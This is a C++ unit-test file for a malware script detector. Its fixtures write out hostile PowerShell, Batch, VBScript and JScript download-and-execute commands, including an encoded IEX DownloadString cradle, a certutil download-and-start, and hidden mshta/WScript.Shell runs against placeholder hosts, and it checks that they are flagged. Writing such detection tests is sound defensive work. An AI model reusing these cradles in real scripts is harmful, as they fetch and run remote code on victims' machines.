#include "formats/script/script_text.h"

#include <gtest/gtest.h>

#include "core/ascii.h"
#include "core/testing/recording_context.h"
#include "core/transfer_encoding.h"
#include "formats/script/script_encoder_fixture.h"
#include "formats/script/script_payloads.h"

namespace lg::script {
namespace {

using lg::testing::RecordingContext;

std::string encoded_command(std::string_view command) {
  return testing::powershell_encoded(command);
}

RecordingContext run(ScriptLanguage l, std::string_view text) {
  RecordingContext ctx;
  analyze_script_text(l, text, ctx);
  return ctx;
}

const RecordingContext::Finding* first(const RecordingContext& ctx, Symbol s) {
  for (const auto& f : ctx.findings) {
    if (f.symbol == s) return &f;
  }
  return nullptr;
}

TEST(ScriptText, PowerShellEncodedDownloadCradle) {
  const std::string cradle =
      "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')";
  const std::string bat =
      "@echo off\r\npowershell.exe -NoP -w hidden -enc " + encoded_command(cradle) + "\r\n";
  RecordingContext ctx = run(ScriptLanguage::kBatch, bat);
  const auto* enc = first(ctx, Symbol::SCRIPT_ENCODED_COMMAND);
  ASSERT_NE(enc, nullptr);
  EXPECT_EQ(enc->evidence.value, cradle);
  EXPECT_NE(enc->evidence.detail.find("-enc"), std::string::npos);
  // The decoded command is scanned too: its download and IEX make the pair.
  ASSERT_TRUE(ctx.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));
  const auto* de = first(ctx, Symbol::SCRIPT_DOWNLOAD_EXECUTE);
  EXPECT_NE(de->evidence.value.find("net.webclient"), std::string::npos);
  EXPECT_NE(de->evidence.value.find("iex"), std::string::npos);
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_HIDDEN_WINDOW));
  EXPECT_NE(ctx.all_text(TextKind::kScript).find("DownloadString"), std::string::npos);
  EXPECT_EQ(ctx.num("script_decoded_payloads"), 1);
}

TEST(ScriptText, BatchCertutilDownloadAndStart) {
  RecordingContext ctx = run(ScriptLanguage::kBatch,
                             "@echo off\r\ncertutil -urlcache -split -f "
                             "http://198.51.100.9/u.exe %TEMP%\\u.exe\r\nstart %TEMP%\\u.exe\r\n");
  const auto* de = first(ctx, Symbol::SCRIPT_DOWNLOAD_EXECUTE);
  ASSERT_NE(de, nullptr);
  EXPECT_NE(de->evidence.value.find("certutil -urlcache"), std::string::npos);
  EXPECT_NE(de->evidence.value.find("start"), std::string::npos);
}

TEST(ScriptText, VbsHiddenRunAndXmlHttp) {
  RecordingContext ctx = run(ScriptLanguage::kVbScript,
                             "Set x = CreateObject(\"MSXML2.XMLHTTP\")\n"
                             "x.Open \"GET\", \"http://example.test/p\", False\n"
                             "Set sh = CreateObject(\"WScript.Shell\")\n"
                             "sh.Run \"cmd /c %TEMP%\\p.exe\", 0, False\n");
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));
  const auto* hidden = first(ctx, Symbol::SCRIPT_HIDDEN_WINDOW);
  ASSERT_NE(hidden, nullptr);
  EXPECT_NE(hidden->evidence.value.find(".run"), std::string::npos);
}

TEST(ScriptText, BenignScriptsStayQuiet) {
  RecordingContext js = run(ScriptLanguage::kJavaScript,
                            "function add(a, b) { return a + b; }\nvar total = add(1, 2);\n"
                            "WScript.Echo('total: ' + total);\n");
  EXPECT_TRUE(js.findings.empty());
  // A download alone, or a program start alone, is not the pair.
  RecordingContext dl = run(ScriptLanguage::kPowerShell,
                            "Invoke-WebRequest https://example.test/data.csv -OutFile data.csv\n");
  EXPECT_FALSE(dl.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));
  RecordingContext run_only = run(ScriptLanguage::kPowerShell, "Start-Process notepad.exe\n");
  EXPECT_FALSE(run_only.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));
  // .Run with a visible window.
  RecordingContext shown =
      run(ScriptLanguage::kVbScript, "CreateObject(\"WScript.Shell\").Run \"notepad\", 1, True\n");
  EXPECT_FALSE(shown.has(Symbol::SCRIPT_HIDDEN_WINDOW));
}

TEST(ScriptText, CharCodeChainIsDecodedAndScanned) {
  // String.fromCharCode spelling "WScript.Shell" and a Chr() chain spelling "mshta".
  std::string js = "var o = new ActiveXObject(String.fromCharCode(";
  const std::string shell = "WScript.Shell";
  for (std::size_t i = 0; i < shell.size(); ++i)
    js += (i ? "," : "") + std::to_string(int(shell[i]));
  js += "));\n";
  RecordingContext ctx = run(ScriptLanguage::kJavaScript, js);
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_OBFUSCATION));
  EXPECT_NE(ctx.all_text(TextKind::kScript).find("WScript.Shell"), std::string::npos);

  std::string vbs = "c = ";
  for (char ch : std::string("mshta http://x.test/a"))
    vbs += "Chr(" + std::to_string(int(ch)) + ") & ";
  vbs += "\"\"\n";
  auto runs = decode_char_code_runs(ascii_lower(vbs), 8, 4);
  ASSERT_EQ(runs.size(), 1u);
  EXPECT_EQ(runs[0], "mshta http://x.test/a");
}

TEST(ScriptText, Base64BlobOfAProgramBecomesAChild) {
  std::string pe(512, '\0');
  pe[0] = 'M';
  pe[1] = 'Z';
  pe[0x3C] = 0x40;
  pe.replace(0x40, 4, std::string("PE\0\0", 4));
  std::string ps = "$b = [Convert]::FromBase64String('" + encode_base64(as_bytes(pe)) +
                   "')\n[IO.File]::WriteAllBytes(\"$env:TEMP\\a.exe\", $b)\n";
  RecordingContext ctx = run(ScriptLanguage::kPowerShell, ps);
  ASSERT_EQ(ctx.children.size(), 1u);
  EXPECT_EQ(ctx.children[0].info.relation, "decoded");
  EXPECT_EQ(ctx.children[0].data.size(), pe.size());
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_OBFUSCATION));
}

TEST(ScriptText, Base64TextIsDecodedAndEvalIsNoted) {
  const std::string inner =
      "var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET','http://e.test/',false); "
      "x.send(); new ActiveXObject('WScript.Shell').Run('mshta http://e.test/h', 0);";
  RecordingContext ctx =
      run(ScriptLanguage::kJavaScript, "eval(atob('" + encode_base64(as_bytes(inner)) + "'));");
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_HIDDEN_WINDOW));
  bool eval_noted = false, blob_noted = false;
  for (const auto& f : ctx.findings) {
    if (f.symbol != Symbol::SCRIPT_OBFUSCATION) continue;
    eval_noted |= f.evidence.value.find("evaluates decoded data") != std::string::npos;
    blob_noted |= f.evidence.value.find("Base64 blob") != std::string::npos;
  }
  EXPECT_TRUE(eval_noted);
  EXPECT_TRUE(blob_noted);
}

TEST(ScriptText, ScriptEncoderBlockInHtaOrWsf) {
  const std::string script =
      "Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"powershell -w hidden iwr "
      "http://e.test/x -OutFile x.exe; .\\x.exe\", 0\r\n";
  RecordingContext ctx = run(ScriptLanguage::kVbScript, testing::encode_script(script));
  const auto* enc = first(ctx, Symbol::SCRIPT_ENCODED_JSE_VBE);
  ASSERT_NE(enc, nullptr);
  EXPECT_NE(enc->evidence.value.find("WScript.Shell"), std::string::npos);
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_DOWNLOAD_EXECUTE));
  EXPECT_TRUE(ctx.has(Symbol::SCRIPT_HIDDEN_WINDOW));
  EXPECT_EQ(ctx.num("script_encoder_blocks"), 1);
}

TEST(ScriptText, ObfuscationDensity) {
  std::string joined = "var a = ";
  for (int i = 0; i < 60; ++i) joined += "\"p\" + ";
  joined += "\"\";";
  EXPECT_TRUE(run(ScriptLanguage::kJavaScript, joined).has(Symbol::SCRIPT_OBFUSCATION));
  std::string carets = "@echo off\r\n";
  for (int i = 0; i < 20; ++i) carets += "p^o^w^e^r^s^h^e^l^l -c calc\r\n";
  EXPECT_TRUE(run(ScriptLanguage::kBatch, carets).has(Symbol::SCRIPT_OBFUSCATION));
}

TEST(ScriptText, EncodedCommandNeedsUtf16Text) {
  // -e followed by Base64 that is not UTF-16LE text: not an encoded command.
  RecordingContext ctx = run(ScriptLanguage::kBatch, "tool -e aGVsbG8gd29ybGQgaGVsbG8=\r\n");
  EXPECT_FALSE(ctx.has(Symbol::SCRIPT_ENCODED_COMMAND));
}

TEST(ScriptText, DecodeDepthIsBounded) {
  // -enc of -enc of -enc ... deeper than kMaxDecodeDepth.
  std::string cmd = "Write-Output done";
  for (std::size_t i = 0; i < kMaxDecodeDepth + 3; ++i)
    cmd = "powershell -enc " + encoded_command(cmd);
  RecordingContext ctx = run(ScriptLanguage::kPowerShell, cmd);
  EXPECT_LE(ctx.num("script_decoded_payloads"), static_cast<std::int64_t>(kMaxDecodeDepth));
  EXPECT_FALSE(ctx.anomalies.empty());
}

TEST(ScriptText, LanguageNames) {
  EXPECT_EQ(script_language_from_name("JScript.Encode"), ScriptLanguage::kJavaScript);
  EXPECT_EQ(script_language_from_name("VBScript"), ScriptLanguage::kVbScript);
  EXPECT_EQ(script_language_from_name("text/javascript"), ScriptLanguage::kJavaScript);
  EXPECT_EQ(script_language_from_name("perlscript"), ScriptLanguage::kUnknown);
  EXPECT_EQ(script_language_name(ScriptLanguage::kBatch), "batch");
}

}  // namespace
}  // namespace lg::script
